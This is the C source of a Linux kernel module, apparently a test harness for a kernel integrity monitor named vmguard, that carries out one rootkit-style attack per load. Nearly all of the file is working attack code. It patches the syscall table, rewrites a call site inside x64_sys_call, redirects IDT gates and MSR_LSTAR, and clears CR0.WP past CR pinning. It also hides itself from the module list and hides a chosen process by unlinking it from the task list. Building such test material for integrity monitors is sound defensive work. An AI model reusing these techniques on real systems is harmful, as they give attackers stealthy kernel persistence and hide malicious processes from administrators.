// SPDX-License-Identifier: GPL-2.0
/*
 * vgattack: rootkit-style attacks on the running kernel, for testing vmguard's
 * kernel integrity monitor. Loading the module performs exactly one attack,
 * picked by the "attack" parameter, and leaves the guest working:
 *
 *   attack=syscall-table target=&sys_call_table value=&__x64_sys_getpid
 *       sys_call_table[__NR_getppid] = value (6.12 dispatches through
 *       x64_sys_call, so this changes nothing a process can see)
 *   attack=x64-sys-call target=&x64_sys_call from=&__x64_sys_getppid to=&__x64_sys_getpid
 *       rewrite the call/jmp rel32 in x64_sys_call that reaches "from" so it
 *       reaches "to" ("FlipSwitch"): getppid() then returns the pid
 *   attack=idt [vector=N]         IDT gate N (default 0, #DE) -> a stub here
 *                                 that jumps on to the original handler
 *   attack=lstar                  MSR_LSTAR on every CPU -> a stub here that
 *                                 jumps on to the original entry_SYSCALL_64
 *   attack=cr0-wp                 clear CR0.WP on this CPU and leave it clear
 *   attack=hide-module [lock=&module_mutex]
 *                                 unlink this module from the modules list
 *   attack=hide-pid pid=N lock=&tasklist_lock
 *                                 unlink task N from the task list (DKOM)
 *
 * Kernel addresses come as parameters (from /proc/kallsyms, read as root):
 * 6.12 exports neither kallsyms_lookup_name nor these symbols.
 *
 * There is no module_exit on purpose: the stubs and the hooks must outlive any
 * rmmod, so the kernel refuses to unload the module.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/moduleparam.h>
#include <linux/string.h>
#include <linux/unaligned.h>
#include <linux/irqflags.h>
#include <linux/smp.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/spinlock.h>
#include <linux/mutex.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>
#include <asm/sync_core.h>
#include <asm/nospec-branch.h>

#define NR_GETPPID 110
/* How far into x64_sys_call to look for the call to "from". */
#define X64_SYS_CALL_SCAN_BYTES (16 * 1024)

static char *attack = "";
module_param(attack, charp, 0444);
MODULE_PARM_DESC(attack, "syscall-table|x64-sys-call|idt|lstar|cr0-wp|hide-module|hide-pid");
static unsigned long target;
module_param(target, ulong, 0444);
MODULE_PARM_DESC(target, "address of sys_call_table (syscall-table) or x64_sys_call (x64-sys-call)");
static unsigned long value;
module_param(value, ulong, 0444);
MODULE_PARM_DESC(value, "syscall-table: new value of the getppid entry");
static unsigned long from;
module_param(from, ulong, 0444);
MODULE_PARM_DESC(from, "x64-sys-call: the handler whose call is redirected");
static unsigned long to;
module_param(to, ulong, 0444);
MODULE_PARM_DESC(to, "x64-sys-call: the handler it is redirected to");
static int vector;
module_param(vector, int, 0444);
MODULE_PARM_DESC(vector, "idt: the vector to redirect (default 0, #DE)");
static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "hide-pid: the task to unlink");
static unsigned long lock;
module_param(lock, ulong, 0444);
MODULE_PARM_DESC(lock, "address of tasklist_lock (hide-pid) or module_mutex (hide-module, optional)");

/*
 * Where the stubs jump: the original handlers. The stubs run in contexts with
 * the user's GS and stack still live (LSTAR) or on an exception frame (IDT),
 * so they do nothing but an indirect jump through these.
 */
unsigned long vgattack_original_idt_handler;
unsigned long vgattack_original_lstar;
void vgattack_idt_stub(void);
void vgattack_lstar_stub(void);

#ifdef CONFIG_X86_KERNEL_IBT
#define STUB_ENDBR "endbr64\n"
#else
#define STUB_ENDBR ""
#endif

asm(".pushsection .text, \"ax\"\n"
    ".globl vgattack_idt_stub\n"
    ".type vgattack_idt_stub, @function\n"
    ".balign 16\n"
    "vgattack_idt_stub:\n"
    STUB_ENDBR
    ANNOTATE_RETPOLINE_SAFE
    "jmp *vgattack_original_idt_handler(%rip)\n"
    ".size vgattack_idt_stub, . - vgattack_idt_stub\n"
    ".globl vgattack_lstar_stub\n"
    ".type vgattack_lstar_stub, @function\n"
    ".balign 16\n"
    "vgattack_lstar_stub:\n"
    STUB_ENDBR
    ANNOTATE_RETPOLINE_SAFE
    "jmp *vgattack_original_lstar(%rip)\n"
    ".size vgattack_lstar_stub, . - vgattack_lstar_stub\n"
    ".popsection\n");

/*
 * CR0 through inline asm: the kernel's write_cr0() puts WP back (CR pinning),
 * which is exactly what a rootkit has to get around.
 */
static inline unsigned long cr0_read(void)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	return cr0;
}

static inline void cr0_write_unpinned(unsigned long cr0)
{
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

/* Copies len bytes over read-only kernel memory with CR0.WP cleared around the copy. */
static void write_read_only(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = cr0_read();
	cr0_write_unpinned(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, len);
	cr0_write_unpinned(cr0);
	local_irq_restore(flags);
}

static int attack_syscall_table(void)
{
	unsigned long *entry, old;

	if (!target || !value)
		return -EINVAL;
	entry = (unsigned long *)target + NR_GETPPID;
	old = *entry;
	write_read_only(entry, &value, sizeof(value));
	pr_info("vgattack: syscall-table done: sys_call_table[%d] at %px: %lx -> %lx\n",
		NR_GETPPID, entry, old, *entry);
	return 0;
}

static int attack_x64_sys_call(void)
{
	u8 *code = (u8 *)target;
	u8 old[5], new[5];
	size_t off;

	if (!target || !from || !to)
		return -EINVAL;
	for (off = 0; off + 5 <= X64_SYS_CALL_SCAN_BYTES; off++) {
		unsigned long next = (unsigned long)code + off + 5;
		long new_rel;

		if (code[off] != 0xe8 && code[off] != 0xe9)
			continue;
		if (next + (long)(s32)get_unaligned((s32 *)(code + off + 1)) != from)
			continue;
		new_rel = (long)to - (long)next;
		if (new_rel != (s32)new_rel)
			return -ERANGE;
		memcpy(old, code + off, 5);
		new[0] = old[0];
		put_unaligned((s32)new_rel, (s32 *)(new + 1));
		write_read_only(code + off, new, 5);
		sync_core();
		pr_info("vgattack: x64-sys-call done: %s at %px (x64_sys_call+%#zx): %5phN -> %5phN\n",
			old[0] == 0xe8 ? "call" : "jmp", code + off, off, old, code + off);
		return 0;
	}
	pr_info("vgattack: x64-sys-call: no call or jmp to %lx in the first %d bytes of x64_sys_call\n",
		from, X64_SYS_CALL_SCAN_BYTES);
	return -ENOENT;
}

static int attack_idt(void)
{
	struct desc_ptr idtr;
	gate_desc *gate, patched;
	unsigned long stub = (unsigned long)vgattack_idt_stub;

	store_idt(&idtr);
	if (vector < 0 || (vector + 1) * sizeof(gate_desc) > idtr.size + 1UL)
		return -EINVAL;
	gate = (gate_desc *)idtr.address + vector;
	vgattack_original_idt_handler = gate_offset(gate);
	patched = *gate;
	patched.offset_low = (u16)stub;
	patched.offset_middle = (u16)(stub >> 16);
	patched.offset_high = (u32)(stub >> 32);
	/* The IDT (cpu_entry_area alias and idt_table) is read-only after boot. */
	write_read_only(gate, &patched, sizeof(patched));
	pr_info("vgattack: idt done: vector %d (IDT at %lx): %lx -> %lx\n",
		vector, idtr.address, vgattack_original_idt_handler, gate_offset(gate));
	return 0;
}

static void set_lstar_to_stub(void *unused)
{
	wrmsrl(MSR_LSTAR, (unsigned long)vgattack_lstar_stub);
}

static int attack_lstar(void)
{
	unsigned long now;

	rdmsrl(MSR_LSTAR, vgattack_original_lstar);
	on_each_cpu(set_lstar_to_stub, NULL, 1);
	rdmsrl(MSR_LSTAR, now);
	pr_info("vgattack: lstar done: %lx -> %lx on %u CPUs\n",
		vgattack_original_lstar, now, num_online_cpus());
	return 0;
}

static int attack_cr0_wp(void)
{
	unsigned long before = cr0_read();

	cr0_write_unpinned(before & ~X86_CR0_WP);
	pr_info("vgattack: cr0-wp done: CR0 %lx -> %lx on CPU %d\n",
		before, cr0_read(), smp_processor_id());
	return 0;
}

static int attack_hide_module(void)
{
	struct mutex *module_mutex = (struct mutex *)lock;

	if (module_mutex)
		mutex_lock(module_mutex);
	list_del(&THIS_MODULE->list);
	if (module_mutex)
		mutex_unlock(module_mutex);
	pr_info("vgattack: hide-module done: module at %px unlinked from the modules list\n",
		THIS_MODULE);
	return 0;
}

static int attack_hide_pid(void)
{
	rwlock_t *tasklist = (rwlock_t *)lock;
	struct pid *task_pid;
	struct task_struct *task;

	if (pid <= 0 || !tasklist)
		return -EINVAL;
	task_pid = find_get_pid(pid);
	task = get_pid_task(task_pid, PIDTYPE_PID);
	put_pid(task_pid);
	if (!task)
		return -ESRCH;
	write_lock_irq(tasklist);
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasklist);
	/*
	 * Once no RCU walker can still stand on the entry, point it at itself:
	 * if the task ever exits, its own list_del_rcu() then finds a harmless
	 * self-loop instead of LIST_POISON2.
	 */
	synchronize_rcu();
	write_lock_irq(tasklist);
	INIT_LIST_HEAD(&task->tasks);
	write_unlock_irq(tasklist);
	pr_info("vgattack: hide-pid done: task %d (%s) at %px unlinked from the task list\n",
		pid, task->comm, task);
	put_task_struct(task);
	return 0;
}

static int __init vgattack_init(void)
{
	if (!strcmp(attack, "syscall-table"))
		return attack_syscall_table();
	if (!strcmp(attack, "x64-sys-call"))
		return attack_x64_sys_call();
	if (!strcmp(attack, "idt"))
		return attack_idt();
	if (!strcmp(attack, "lstar"))
		return attack_lstar();
	if (!strcmp(attack, "cr0-wp"))
		return attack_cr0_wp();
	if (!strcmp(attack, "hide-module"))
		return attack_hide_module();
	if (!strcmp(attack, "hide-pid"))
		return attack_hide_pid();
	pr_info("vgattack: unknown attack '%s'\n", attack);
	return -EINVAL;
}
module_init(vgattack_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit-style kernel attacks for vmguard's integrity monitor tests");

